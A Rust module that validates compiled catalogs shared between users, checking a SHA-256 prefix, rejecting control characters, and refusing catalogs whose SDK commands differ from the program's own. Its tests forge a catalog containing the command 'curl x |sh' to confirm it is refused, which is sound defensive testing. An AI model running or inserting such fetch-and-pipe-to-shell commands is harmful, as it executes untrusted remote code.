//! Compiled catalogs that are handed from one user to another: 64 hexadecimal digits, which are the
//! SHA-256 of all that follows, and the tables.

use std::fs::{File, Metadata};
use std::io::{self, Read as _};
use std::path::Path;

use sky_accel_core::catalog::{Catalog, OpenError, Sdk};
use sky_accel_core::text::is_unprintable;

use super::compiled::SUM_LEN;
use super::sources::{OverlayFile, unreadable};
use super::{EMBEDDED, Loaded};
use crate::code::ErrorCode;
use crate::digest::sha256;
use crate::error::{Error, Result};

/// The largest compiled catalog that is read, in bytes: more than all overlays compile to.
const MAX_LEN: u64 = 4_000_000_000;
/// With what the tables begin.
const MAGIC: &[u8] = b"SKYACCEL";

/// Returns the bytes of a compiled catalog.
pub fn to_bytes(loaded: &Loaded) -> Vec<u8> {
    let tables = loaded.catalog().to_bytes();
    let mut bytes = sha256([&tables[..]]).into_bytes();
    bytes.extend(tables);
    bytes
}

/// Whether a file is a compiled catalog: it begins as one.
pub(super) fn is_compiled(path: &Path, metadata: &Metadata) -> bool {
    let is_source = |extension| extension == "toml" || extension == "csv";
    if !metadata.is_file() || path.extension().is_some_and(is_source) {
        return false;
    }
    let mut start = [0; SUM_LEN + MAGIC.len()];
    let read = File::open(path).and_then(|mut file| file.read_exact(&mut start));
    read.is_ok() && start.ends_with(MAGIC)
}

/// The sum with which a compiled catalog begins: of no other tables, or it is refused when it is read.
pub(super) fn sum(path: &Path) -> io::Result<String> {
    let mut sum = String::new();
    File::open(path)?
        .take(SUM_LEN as u64)
        .read_to_string(&mut sum)?;
    Ok(sum)
}

/// Reads a compiled catalog, which anybody may have made.
pub(super) fn read(file: &OverlayFile) -> Result<Vec<u8>> {
    let failed = |error: io::Error| unreadable(&file.path, &error);
    let opened = File::open(&file.path).map_err(failed)?;
    let mut bytes = Vec::new();
    opened
        .take(MAX_LEN)
        .read_to_end(&mut bytes)
        .map_err(failed)?;
    match check(&bytes) {
        Ok(()) => Ok(bytes),
        Err(why) => {
            let message = format!("{}: {why}", file.name());
            Err(Error::new(ErrorCode::CatalogInvalid, message))
        }
    }
}

/// The tables in the bytes of a compiled catalog.
pub(super) fn catalog(bytes: &[u8]) -> std::result::Result<Catalog<'_>, OpenError> {
    Catalog::open(bytes.get(SUM_LEN..).unwrap_or_default())
}

/// Checks the properties that the compiler guarantees and readers rely on.
fn check(bytes: &[u8]) -> std::result::Result<(), String> {
    let catalog = catalog(bytes).map_err(|error| error.to_string())?;
    let (sum, tables) = bytes.split_at(SUM_LEN);
    if sha256([tables]).as_bytes() != sum {
        return Err("the compiled catalog is damaged: its sum is another one".to_owned());
    }
    let text = std::str::from_utf8(catalog.pool.bytes()).unwrap_or("\0");
    if text.chars().any(is_unprintable) {
        return Err("there are control characters in the compiled catalog".to_owned());
    }
    // Plans run them.
    let commands = |catalog: &Catalog<'_>, sdk: &Sdk| -> Vec<String> {
        let words =
            [sdk.id, sdk.kubernetes, sdk.list_command].map(|text| catalog.str(text).to_owned());
        let docker = catalog.strings(sdk.docker).map(str::to_owned);
        words.into_iter().chain(docker).collect()
    };
    let known: Vec<_> = EMBEDDED
        .sdks
        .iter()
        .map(|sdk| commands(&EMBEDDED, &sdk))
        .collect();
    let is_known = |sdk: &Sdk| {
        let has_none = sdk.list_command.len == 0 && sdk.docker.len == 0;
        has_none || known.contains(&commands(&catalog, sdk))
    };
    if !catalog.sdks.iter().all(|sdk| is_known(&sdk)) {
        return Err(
            "the compiled catalog has commands for plans that are not those of this program"
                .to_owned(),
        );
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The embedded catalog as a file in which a text is another one, with the sum of that.
    fn forged(text: &str, other: &str) -> Vec<u8> {
        assert_eq!(text.len(), other.len());
        let mut tables = EMBEDDED.to_bytes();
        let text = text.as_bytes();
        let places: Vec<usize> = (0..tables.len())
            .filter(|at| tables[*at..].starts_with(text))
            .collect();
        assert!(!places.is_empty());
        for at in places {
            tables[at..at + text.len()].copy_from_slice(other.as_bytes());
        }
        let mut bytes = sha256([&tables[..]]).into_bytes();
        bytes.extend(tables);
        bytes
    }

    #[test]
    fn a_forged_catalog_is_refused_although_its_sum_is_right() {
        assert_eq!(check(&forged("nvidia-smi", "nvidia-smi")), Ok(()));
        let commands = check(&forged("nvidia-smi", "curl x |sh"));
        assert!(
            commands.as_ref().is_err_and(|why| why.contains("commands")),
            "{commands:?}"
        );
        let control = check(&forged("DGX Spark", "DGX\u{1b}Spark"));
        assert!(
            control.as_ref().is_err_and(|why| why.contains("control")),
            "{control:?}"
        );
    }

    #[test]
    fn a_damaged_catalog_is_refused() {
        let whole = forged("nvidia-smi", "nvidia-smi");
        for (at, len) in [(0, whole.len()), (whole.len() - 1, whole.len())] {
            let mut bytes = whole[..len].to_vec();
            bytes[at] ^= 1;
            assert!(check(&bytes).is_err(), "{at}");
        }
        for len in [0, 10, SUM_LEN, SUM_LEN + 20, whole.len() - 1] {
            assert!(check(&whole[..len]).is_err(), "{len}");
        }
    }
}
